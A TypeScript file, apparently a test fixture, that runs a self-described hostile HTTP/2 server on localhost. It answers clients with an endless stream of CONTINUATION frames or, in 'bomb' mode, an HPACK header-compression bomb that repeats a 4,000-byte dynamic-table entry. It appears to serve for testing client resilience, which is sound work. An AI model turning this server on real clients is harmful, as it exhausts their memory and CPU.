/**
 * Hostile: answers each call with a header block that never ends, of CONTINUATION frames; with the argument `bomb` by one that is short, and
 * names one long field of the table (RFC 7541) over and over.
 */
import { createServer, type Socket } from 'node:net';
import { END_HEADERS, frame } from './frames';

const { PORT = '8080', HOST = '127.0.0.1' } = process.env;
/** `:status: 200` of the static table, then `x: …` of 4,000 bytes, put into the dynamic one. */
const FIELD = Buffer.concat([Buffer.from([0x88, 0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 'x')]);
/** The first of the dynamic table. */
const AGAIN = Buffer.alloc(16_000, 0xbe);

function pour(socket: Socket): void {
  if (!socket.destroyed) socket.write(frame('continuation', 0, 1, AGAIN), () => setImmediate(pour, socket));
}

createServer((socket) => {
  socket
    .on('error', () => {})
    .once('data', () => {
      socket.write(Buffer.concat([frame('settings', 0, 0), frame('settings', 1, 0), frame('headers', 0, 1, FIELD)]));
      if (process.argv[2] === 'bomb') {
        for (let i = 0; i < 60; i++) socket.write(frame('continuation', 0, 1, AGAIN));
        socket.write(frame('continuation', END_HEADERS, 1));
      } else pour(socket);
    });
  socket.resume();
}).listen(Number(PORT), HOST);
